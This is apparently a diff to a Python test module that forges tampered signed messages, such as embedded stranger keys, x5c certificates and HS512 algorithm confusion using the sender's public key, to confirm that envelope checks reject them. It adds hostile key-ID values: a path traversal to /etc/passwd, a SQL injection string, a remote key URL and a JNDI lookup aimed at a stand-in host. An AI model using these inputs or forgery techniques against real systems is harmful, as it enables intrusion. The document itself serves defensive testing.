@@ -14,11 +14,12 @@ from shared.protocol.checks.envelope import (
     kid_is_given,
 )
 from shared.protocol.encoding import base64url_encode, dump_json
-from shared.protocol.signing import VerificationKey
-from shared.protocol.tampering.good import GoodMessage, OutgoingMessage
+from shared.protocol.tampering.base import OutgoingMessage
+from shared.protocol.tampering.good import GoodMessage
+from shared.protocol.tampering.public_forms import public_forms, public_jwk
 from shared.protocol.tampering.table import Rows
 
-rows = Rows()
+rows = Rows[GoodMessage]()
 
 CRITICAL: dict[str, dict[str, Any]] = {
     "an unknown name": {"crit": ["note"], "note": True},
@@ -35,6 +36,13 @@ ODD_KIDS: dict[str, Any] = {
     "a list": ["a"],
     "too long a text": "k" * (MAX_KID_LENGTH + 1),
     "a text with a NUL": "key\x00",
+}
+
+HOSTILE_KIDS = {
+    "file path": "../../etc/passwd",
+    "piece of SQL": "' OR 1=1--",
+    "URL": "https://keys.invalid/key.pem",
+    "template": "${jndi:ldap://keys.invalid}",
 }
 
 
@@ -102,13 +110,13 @@ def unencoded_payload_in_name_only(good: GoodMessage) -> OutgoingMessage:
 @rows.caught_by(header_members_are_allowed)
 def embedded_key(good: GoodMessage) -> OutgoingMessage:
     """The header brings a key of a stranger, who has signed under the sender's kid."""
-    return good.send_header({**good.header, "jwk": _jwk(good.unknown_key.public())}, good.unknown_key)
+    return good.send_header({**good.header, "jwk": public_jwk(good.unknown_key.public())}, good.unknown_key)
 
 
 @rows.caught_by(header_members_are_allowed)
 def embedded_certificate(good: GoodMessage) -> OutgoingMessage:
     """The header brings x5c with a stranger's key, who has signed under the sender's kid."""
-    der = _public_forms(good.unknown_key.public())["DER"]
+    der = public_forms(good.unknown_key.public())["DER"]
     return good.send_header({**good.header, "x5c": [base64.b64encode(der).decode()]}, good.unknown_key)
 
 
@@ -129,7 +137,7 @@ def algorithm(good: GoodMessage, case: str) -> OutgoingMessage:
 def mac_with_public_key_as(good: GoodMessage, case: str) -> OutgoingMessage:
     """The header says alg HS512, and the secret of this MAC is the sender's public key as {}."""
     header = base64url_encode(dump_json({**good.header, "alg": "HS512"}))
-    secret = _public_forms(good.key.public())[case]
+    secret = public_forms(good.key.public())[case]
     mac = hmac.digest(secret, f"{header}.{good.parts['payload']}".encode(), "sha512")
     return good.send_members({**good.parts, good.member.value: header, "signature": base64url_encode(mac)})
 
@@ -173,18 +181,3 @@ def kid_is(good: GoodMessage, case: str) -> OutgoingMessage:
 def _over_raw_payload(good: GoodMessage, header: bytes) -> dict[str, str]:
     raw = good.sign_texts(good.payload.decode(), base64url_encode(header))
     return good.members(replace(raw, payload=base64url_encode(good.payload)))
-
-
-def _jwk(key: VerificationKey) -> dict[str, str]:
-    members: dict[str, str] = key.jwk.export_public(as_dict=True)
-    return members
-
-
-def _public_forms(key: VerificationKey) -> dict[str, bytes]:
-    pem = key.to_pem()
-    return {
-        "PEM": pem.encode(),
-        "PEM without its last line break": pem.rstrip().encode(),
-        "DER": base64.b64decode("".join(pem.splitlines()[1:-1])),
-        "modulus": _jwk(key)["n"].encode(),
-    }
